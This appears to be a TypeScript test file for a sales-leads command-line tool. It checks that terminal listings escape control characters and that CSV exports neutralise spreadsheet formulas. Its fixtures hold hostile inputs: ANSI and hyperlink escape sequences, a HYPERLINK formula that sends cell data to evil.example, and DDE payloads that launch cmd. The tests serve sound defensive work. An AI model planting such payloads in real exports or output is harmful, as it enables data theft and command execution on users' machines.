import { describe, expect, it } from "vitest";

import { render, toCsv, toText } from "./leads.ts";

const hostile = {
  id: 1,
  full_name: "\u001b]8;;https://evil.example\u0007Click me\u001b]8;;\u0007",
  company: "\u001b[2J\u001b[HEvil\u0007 Corp\u009b31m \u202eknaB",
  message: "line one\nline two\r\toverwritten",
};

describe("npm run leads -- list", () => {
  it("shows control characters escaped, so a lead cannot drive the operator's terminal", () => {
    const output = toText([hostile], 80);
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(output).toContain("\\x1b]8;;https://evil.example\\x07Click me\\x1b]8;;\\x07");
    expect(output).toContain("\\x1b[2J\\x1b[HEvil\\x07 Corp\\x9b31m \\u202eknaB");
    expect(output).toContain("line one line two overwritten");
  });

  it("says how many report requests are held for review", () => {
    const rows = [
      { id: 1, email: "a@x.example", status: "Requested", review_reason: null },
      { id: 2, email: "b@x.example", status: "Requested", review_reason: "Held: 10 report e-mails to this domain" },
    ];
    expect(toText(rows, 80)).toMatch(/2 rows\n1 held for review/);
    expect(toText(rows.slice(0, 1), 80)).not.toContain("held");
  });
});

describe("npm run leads -- export", () => {
  it("neutralises every cell a spreadsheet would run as a formula, as OWASP advises", () => {
    const formulas = [
      '=HYPERLINK("https://evil.example?"&A1,"Open")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+91 98765 43210",
      "-2+3+cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "\uff1d1+1",
    ];
    const csv = toCsv(formulas.map((value, id) => ({ id, company: value })));
    const cells = csv
      .trim()
      .split(/\n(?=\d,)/)
      .slice(1)
      .map((line) => line.slice(line.indexOf(",") + 1).replace(/^"|"$/g, ""));
    expect(cells).toHaveLength(formulas.length);
    for (const cell of cells) expect(cell.startsWith("'"), cell).toBe(true);
    expect(toCsv([{ id: 1, company: "Kaveri Bank" }])).toBe("id,company\n1,Kaveri Bank\n");
  });

  it("writes JSON with every value exactly as stored", () => {
    const rows = [{ ...hostile, company: "=HYPERLINK(1)" }];
    expect(JSON.parse(render(rows, "json"))).toEqual(rows);
  });
});
